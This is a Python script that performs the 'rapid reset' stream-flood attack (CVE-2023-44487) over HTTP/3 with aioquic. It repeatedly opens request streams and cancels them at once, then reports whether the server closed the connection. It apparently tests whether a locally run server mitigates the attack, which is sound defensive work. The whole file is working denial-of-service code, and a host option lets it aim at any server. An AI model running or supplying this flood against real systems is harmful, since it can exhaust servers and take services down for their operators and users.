"""The HTTP/2 "rapid reset" attack (CVE-2023-44487) over HTTP/3, on aioquic: one connection opens a
request stream and resets it in the same datagram, again and again, then waits for the server's answer.
Prints one JSON line: {"sent": requests sent, "closed_with": the server's CONNECTION_CLOSE code or null}.
Usage: rapid_reset.py --port P --ca CA --requests N
"""

import argparse
import asyncio
import json

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated

CANCELLED = 0x10C


class Client(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.h3 = H3Connection(self._quic)
        self.closed_with = None
        self.closed = asyncio.Event()

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.closed_with = event.error_code
            self.closed.set()
        else:
            self.h3.handle_event(event)


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--requests", type=int, default=200)
    args = parser.parse_args()
    config = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN)
    config.load_verify_locations(args.ca)
    config.server_name = "localhost"
    sent = 0
    async with connect(args.host, args.port, configuration=config, create_protocol=Client) as client:
        quic = client._quic
        for _ in range(args.requests):
            if client.closed.is_set():
                break
            stream = quic.get_next_available_stream_id()
            # Within the server's stream credit (MAX_STREAMS comes back as streams end), at most 1 s.
            for _ in range(100):
                if stream // 4 < quic._remote_max_streams_bidi or client.closed.is_set():
                    break
                await asyncio.sleep(0.01)
            if client.closed.is_set():
                break
            client.h3.send_headers(stream, [
                (b":method", b"GET"), (b":scheme", b"https"),
                (b":authority", f"localhost:{args.port}".encode()), (b":path", b"/rapid"),
            ], end_stream=True)
            quic.reset_stream(stream, CANCELLED)
            client.transmit()
            sent += 1
            # Let the server's answers (stream credit, or its close) in now and then.
            if sent % 10 == 0:
                await asyncio.sleep(0.01)
        try:
            await asyncio.wait_for(client.closed.wait(), 5)
        except asyncio.TimeoutError:
            pass
    print(json.dumps({"sent": sent, "closed_with": client.closed_with}))


asyncio.run(main())
